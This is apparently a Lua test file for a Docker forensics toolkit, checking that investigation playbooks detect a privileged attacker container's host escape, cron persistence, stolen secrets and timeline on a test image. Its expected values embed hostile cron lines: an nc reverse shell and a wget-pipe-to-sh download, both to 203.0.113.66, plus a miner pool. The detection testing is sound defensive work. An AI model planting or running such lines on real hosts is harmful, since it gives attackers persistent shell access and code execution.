-- Checks the investigation playbooks on the dockerd-ext4 evidence (the
-- host mounted read-only, and the data root alone) and on the
-- docker-explorer data roots.  args: HOST_MOUNT DATA_ROOT DE_ROOT...
local t = require "testlib"
local inv = require "invlib"
local _, argv = ...
local host, root = argv[1], argv[2]
argv.image = os.getenv("WO_HOST_IMAGE")

local function sh(cmd) return io.popen(cmd):read("l") end

-- the privileged container that bound / is the only one reaching the host
local recs = inv.run("root-mounts-cron", { host })
t.eq("host: reach", inv.names(recs, "reach"), { "attacker" })
t.eq("host: reasons", inv.where(recs, "reach")[1].reasons,
  { "binds the host's / at /host (read-write)", "privileged" })
t.eq("host: cron writes", inv.writes(recs), {
  "attacker host /host/etc/cron.d/backdoor life",
  "attacker host /host/etc/cron.d/e2scrub_all -",
  "attacker host /host/etc/cron.daily/logrotate -",
  "attacker host /host/etc/crontab -",
  "attacker layer /etc/crontabs/root life",
  "attacker layer /var/spool/cron/crontabs/root life" })
local bd
for _, w in ipairs(inv.where(recs, "cron-write")) do
  if w.path == "/host/etc/cron.d/backdoor" then bd = w end
end
local f = host .. "/etc/cron.d/backdoor"
t.eq("backdoor: provenance", { bd.host_path, bd.inum, bd.size, bd.mtime,
  bd.btime, bd.sha256, bd.source },
  { "/etc/cron.d/backdoor", tonumber(sh("stat -c %i " .. f)), 127,
    "2026-12-03T16:07:40.296117106Z", "2026-12-03T16:07:40.296117106Z",
    sh("sha256sum " .. f):match("^%x+"), f })
t.ok("backdoor: content", bd.content:find(
  '* * * * * root /bin/sh -c "nc 203.0.113.66 4444 -e /bin/sh" '
  .. "# DFX-HOST-CRON", 1, true), bd.content)
local layer = {}
for _, w in ipairs(inv.where(recs, "cron-write")) do
  if w.where == "layer" then layer[#layer + 1] = w.layer .. " " .. w.content end
end
table.sort(layer)
t.eq("layer files: layer and content", layer, {
  "56cb9693f4055f873e78a138e074e4103353981ee1db3a7dd12752ee3b5f9b29 "
    .. "*/10 * * * * /tmp/.x/miner --pool 203.0.113.66:3333 "
    .. "# DFX-SPOOL-CRON\n",
  "56cb9693f4055f873e78a138e074e4103353981ee1db3a7dd12752ee3b5f9b29 "
    .. "*/5 * * * * wget -q -O- http://203.0.113.66/x.sh | sh "
    .. "# DFX-ALPINE-CRON\n" })

-- the same from the disk image itself, no mount
if argv.image then
  recs = inv.run("root-mounts-cron", { argv.image })
  t.eq("image: reach", inv.names(recs, "reach"), { "attacker" })
  t.eq("image: cron writes", inv.writes(recs), {
    "attacker host /host/etc/cron.d/backdoor life",
    "attacker host /host/etc/cron.d/e2scrub_all -",
    "attacker host /host/etc/cron.daily/logrotate -",
    "attacker host /host/etc/crontab -",
    "attacker layer /etc/crontabs/root life",
    "attacker layer /var/spool/cron/crontabs/root life" })
  local b = inv.where(recs, "cron-write")[1]
  t.eq("image: backdoor provenance", { b.inum, b.sha256, b.source },
    { bd.inum, bd.sha256, argv.image .. ":/etc/cron.d/backdoor" })
end

-- escape and persistence agree: the attacker alone reaches the host, and
-- its cron writes are its persistence
recs = inv.run("escape", { host }, { min = "reach" })
t.eq("escape: reach", inv.names(recs, "escape"), { "attacker" })
t.eq("escape: risk", recs[1].risk, "critical")
recs = inv.run("persistence", { host })
local got = {}
for _, r in ipairs(inv.where(recs, "persistence")) do
  got[#got + 1] = ("%s %s %s %s"):format(r.name, r.where, r.what, r.path)
end
table.sort(got)
t.eq("persistence: findings", got, {
  "attacker host cron /host/etc/cron.d/backdoor",
  "attacker host cron /host/etc/cron.d/e2scrub_all",
  "attacker host cron /host/etc/cron.daily/logrotate",
  "attacker host cron /host/etc/crontab",
  "attacker layer cron /etc/crontabs/root",
  "attacker layer cron /var/spool/cron/crontabs/root",
  "tty-session layer ssh-copy /root/authorized_keys.bak" })
t.eq("persistence: reach", inv.names(recs, "reach"), { "attacker" })
-- the operator's authorized_keys.bak is no key sshd reads: low, and
-- not a triage headline
local sev = {}
for _, r in ipairs(inv.where(recs, "persistence")) do
  sev[#sev + 1] = r.what .. " " .. r.severity
end
table.sort(sev)
t.eq("persistence: severities", sev, { "cron high", "cron high",
  "cron high", "cron high", "cron high", "cron high", "ssh-copy low" })
local lines = inv.where(inv.run("triage", { root }), "summary")[1]
  .highlights
t.eq("triage: no headline for the keys copy",
  table.concat(lines, "\n"):find("authorized_keys.bak", 1, true), nil)

-- secrets: the web container's environment, the stolen shadow copy
recs = inv.run("secrets", { root })
got = {}
for _, r in ipairs(recs) do
  got[#got + 1] = r.name .. " " .. r.where .. " " .. r.key
end
table.sort(got)
t.eq("secrets: findings", got, { "attacker file /tmp/.shadow.stolen:1",
  "attacker file /tmp/.shadow.stolen:6",
  "dfx/opaque-demo:1.0 image-file /opt/data/secret.txt:1",
  "dfx/opaque-demo:1.0 image-history step 3 api_key",
  "webapp env AWS_ACCESS_KEY_ID",
  "webapp env AWS_SECRET_ACCESS_KEY", "webapp env DB_PASSWORD" })
-- the image's build step wrote a secret a later step removed: both its
-- command and the file in the step's layer tell it
local step, file
for _, r in ipairs(recs) do
  if r.where == "image-history" then step = r end
  if r.where == "image-file" then file = r end
end
t.eq("secrets: build step", { step.value, step.step, step.layer,
  step.image }, { "DFX-IMAGE-SECRET", 3,
  "dac5ad7961603156dec5459d80ee092d81a7947ee590b360184cac782ca7c8d6",
  "sha256:273414a365fbbdee97b2b21e68c3c994979c0b315f17857dfc2ae8459de6ceac"
  })
t.eq("secrets: image file", { file.value, file.layer, file.sha256,
  file.step }, { "api_key=DFX-IMAGE-SECRET",
  "dac5ad7961603156dec5459d80ee092d81a7947ee590b360184cac782ca7c8d6",
  "4879a5d1a2b55a21440efefdacac9cbc3812a9f3092d172498778dfd3b5c1a2b", 3 })

-- timeline: the backdoor on the host comes before the container's own
-- files and its recorded start (Docker stamps StartedAt late)
recs = inv.run("timeline", { host }, { logs = "no" })
local tl = {}
for _, r in ipairs(recs) do
  if r.name == "attacker" then tl[#tl + 1] = r.what .. " " .. (r.path or "") end
end
t.eq("timeline: the attacker", tl, { "container-created ",
  "host-file /host/etc/cron.d/backdoor", "file /etc/crontabs/root",
  "file /var/spool/cron/crontabs/root", "file /tmp/.shadow.stolen",
  "container-started ", "container-finished " })

-- the data root alone: the layer files, and a note for the host part
recs = inv.run("root-mounts-cron", { root })
t.eq("data root: cron writes", inv.writes(recs), {
  "attacker layer /etc/crontabs/root life",
  "attacker layer /var/spool/cron/crontabs/root life" })
t.eq("data root: note", inv.names(recs, "note"), { "attacker" })

-- opaque-run deleted /var/spool/mail: a deletion, but not of cron
recs = inv.run("root-mounts-cron", { root }, { containers = "all" })
t.eq("every container: only the attacker's cron", inv.writes(recs), {
  "attacker layer /etc/crontabs/root life",
  "attacker layer /var/spool/cron/crontabs/root life" })

-- no false cron writes (nor secrets) on the docker-explorer roots
for i = 3, #argv do
  local label = argv[i]:match("de%-([^/]+)") or argv[i]
  t.eq("docker-explorer " .. label .. ": no secrets",
    #inv.run("secrets", { argv[i] }), 0)
  recs = inv.run("root-mounts-cron", { argv[i] }, { containers = "all" })
  t.eq("docker-explorer " .. label .. ": no cron writes",
    inv.writes(recs), {})
  t.eq("docker-explorer " .. label .. ": no reach",
    inv.names(recs, "reach"), {})
end
